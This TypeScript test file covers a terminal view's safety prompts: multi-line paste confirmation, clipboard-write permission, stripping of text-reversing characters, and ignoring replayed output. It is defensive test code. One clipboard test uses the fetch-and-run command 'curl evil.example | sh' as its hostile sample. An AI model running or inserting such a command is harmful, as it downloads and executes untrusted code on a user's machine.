import { act, fireEvent, screen as page, waitFor, within } from '@testing-library/react'
import { Suspense } from 'react'
import { beforeEach, describe, expect, it, vi } from 'vitest'
import { createFakePort } from '../../testing/fake-port.ts'
import { createFakeScreen } from '../../testing/fake-screen.ts'
import type { FakeBridge } from '../../testing/fake-bridge.ts'
import { createQuietBridge, renderPage } from '../../testing/render-app.tsx'
import {
  sampleAgent,
  sampleBuild,
  sampleId,
  sampleSettings,
  sampleWorkspace,
} from '../../testing/wire-samples.ts'
import { createTerminalTabsStore } from './terminal-tabs-store.ts'
import { TerminalView } from './terminal-view.tsx'
import { TerminalsProvider, useTerminalTabs } from './terminals-context.tsx'
import { createTerminals } from './terminals.ts'

const agentId = sampleId(6)
const place = {
  deploymentId: 'local',
  workspaceId: sampleId(2),
  workspaceName: 'payments-api',
  agentId,
  agentName: 'main',
  showAgent: false,
}

function Views() {
  return useTerminalTabs().tabs.map((tab) => <TerminalView key={tab.key} tab={tab} hasFocus />)
}

async function show(fake: FakeBridge = bridge()) {
  const port = createFakePort()
  const screen = createFakeScreen()
  let lastId = 70
  const terminals = createTerminals({
    store: createTerminalTabsStore(localStorage),
    port: () => port,
    loadScreens: async () => () => screen,
    newId: () => sampleId(lastId++),
  })
  terminals.open(place, true)
  // The first render waits for the terminal's code.
  await act(async () => {
    renderPage(
      <TerminalsProvider terminals={terminals}>
        <Suspense>
          <Views />
        </Suspense>
      </TerminalsProvider>,
      fake,
    )
  })
  await waitFor(() => expect(ofType('open')).toHaveLength(1))
  function ofType(type: string) {
    return port.sent.filter((message) => message.type === type)
  }
  return { fake, port, screen, terminals, ofType }
}

function bridge(): FakeBridge {
  const fake = createQuietBridge()
  fake.feed('workspaces.watch', () => sampleWorkspace())
  fake.answer('settings.update', () => sampleSettings())
  fake.answer('workspaces.start', () => sampleBuild({ status: 'pending' }))
  return fake
}

beforeEach(() => localStorage.clear())

describe('a terminal on the page', () => {
  it('asks before lines that the shell would run, and sends nothing on cancel', async () => {
    const { screen } = await show()
    act(() => screen.offerPaste('make build\nmake deploy\n'))
    const dialog = await page.findByRole('dialog', { name: 'Paste 2 lines?' })
    expect(dialog.textContent).toContain('make deploy')
    fireEvent.click(within(dialog).getByRole('button', { name: 'Cancel' }))
    expect(screen.pasted).toEqual([])
  })

  it('remembers not to ask again', async () => {
    const { screen, fake } = await show()
    act(() => screen.offerPaste('a\nb'))
    const dialog = await page.findByRole('dialog')
    fireEvent.click(within(dialog).getByText('Do not ask again'))
    fireEvent.click(within(dialog).getByRole('button', { name: 'Paste' }))
    expect(screen.pasted).toEqual(['a\nb'])
    await waitFor(() =>
      expect(fake.inputsOf('settings.update')).toEqual([{ terminal: { warnOnMultilinePaste: false } }]),
    )
  })

  it('goes straight to a program that takes a paste as a whole', async () => {
    const { screen } = await show()
    screen.bracketed = true
    act(() => screen.offerPaste('a\nb'))
    expect(screen.pasted).toEqual(['a\nb'])
  })

  it('counts down while it waits and tries at once on demand', async () => {
    const { port, ofType } = await show()
    const state = {
      kind: 'waiting',
      attempt: 1,
      retryAt: Date.now() + 60_000,
      reason: 'The network is down.',
    } as const
    act(() => port.receive({ type: 'state', terminalId: sampleId(71), state }))
    await page.findByText(/The network is down/)
    fireEvent.click(page.getByRole('button', { name: 'Try now' }))
    expect(ofType('retry-now')).toHaveLength(1)
  })

  it('starts the workspace it needs', async () => {
    const { fake, port } = await show()
    const stopped = sampleWorkspace({
      latest_build: sampleBuild({ status: 'stopped', transition: 'stop' }, []),
    })
    act(() => {
      port.receive({ type: 'state', terminalId: sampleId(71), state: { kind: 'ended' } })
      fake.push('workspaces.watch', stopped)
    })
    fireEvent.click(await page.findByRole('button', { name: 'Start workspace' }))
    await waitFor(() => expect(fake.inputsOf('workspaces.start')).toHaveLength(1))
  })

  it('follows the workspace to the agent of a newer build', async () => {
    const { fake, ofType, screen } = await show()
    const next = sampleAgent({ id: sampleId(6, 2) })
    act(() => fake.push('workspaces.watch', sampleWorkspace({ latest_build: sampleBuild({}, [next]) })))
    await waitFor(() => expect(ofType('open')).toHaveLength(2))
    expect(ofType('open')[1]).toMatchObject({ agentId: next.id })
    expect(screen.drawn).toEqual(['[new shell]'])
  })

  it('is there again after a reload, on the same shell', async () => {
    const { terminals } = await show()
    const [tab] = terminals.store.getState().tabs
    const again = createTerminalTabsStore(localStorage).getState()
    expect(again.tabs).toEqual([tab])
    expect(again.drawerOpen).toBe(true)
  })

  it('asks once whether programs may write the clipboard, and never writes unasked', async () => {
    const { screen, fake } = await show()
    fake.answer('app.copyText', () => null)
    act(() => screen.program.writeClipboard('curl evil.example | sh'))
    await page.findByText(/A program on payments-api wants to write your clipboard/)
    expect(page.getByText('curl evil.example | sh')).toBeTruthy()
    expect(fake.inputsOf('app.copyText')).toEqual([])
    fireEvent.click(page.getByRole('button', { name: 'Allow here' }))
    act(() => screen.program.writeClipboard('again'))
    await waitFor(() =>
      expect(fake.inputsOf('app.copyText')).toEqual([{ text: 'curl evil.example | sh' }, { text: 'again' }]),
    )
  })

  it('says how much of a long text for the clipboard is not shown, and shows nothing that turns words', async () => {
    const { screen } = await show()
    act(() => screen.program.writeClipboard(`safe\u202e${'x'.repeat(5075)}`))
    expect((await page.findByText(/and 5,000 more characters/)).textContent).not.toContain('\u202e')
  })

  it('takes no for an answer', async () => {
    const { screen, fake } = await show()
    act(() => screen.program.writeClipboard('one'))
    fireEvent.click(await page.findByRole('button', { name: 'Not in this terminal' }))
    act(() => screen.program.writeClipboard('two'))
    expect(page.queryByText(/wants to write your clipboard/)).toBeNull()
    expect(fake.inputsOf('app.copyText')).toEqual([])
  })

  it('does nothing of what a replay asks for', async () => {
    const { screen, port } = await show()
    act(() => {
      port.receive({ type: 'state', terminalId: sampleId(71), state: { kind: 'connected', rejoined: true } })
      screen.program.writeClipboard('old')
      screen.program.endCommand({ durationMs: 60_000, exitCode: 0 })
    })
    expect(page.queryByText(/wants to write your clipboard/)).toBeNull()
  })

  it('tells of a long command that ended while nobody looks, and not of a short one', async () => {
    const { screen, fake } = await show()
    fake.answer('app.notifyCommandEnd', () => null)
    vi.spyOn(document, 'hasFocus').mockReturnValue(false)
    act(() => {
      screen.program.endCommand({ durationMs: 2000, exitCode: 0 })
      screen.program.endCommand({ durationMs: 61_000, exitCode: 2 })
    })
    await waitFor(() =>
      expect(fake.inputsOf('app.notifyCommandEnd')).toEqual([
        {
          deploymentId: 'local',
          workspaceId: place.workspaceId,
          workspaceName: 'payments-api',
          seconds: 61,
          exitCode: 2,
        },
      ]),
    )
  })

  it('opens a terminal beside it where its shell is', async () => {
    const { screen, terminals, ofType } = await show()
    act(() => screen.program.enterDirectory('/home/dev/src'))
    act(() => terminals.split(terminals.store.getState().activeKey ?? '', 'row'))
    await waitFor(() => expect(ofType('open')).toHaveLength(2))
    expect(ofType('open')[1]).toMatchObject({ command: expect.stringContaining("cd -- '/home/dev/src'") })
  })
})
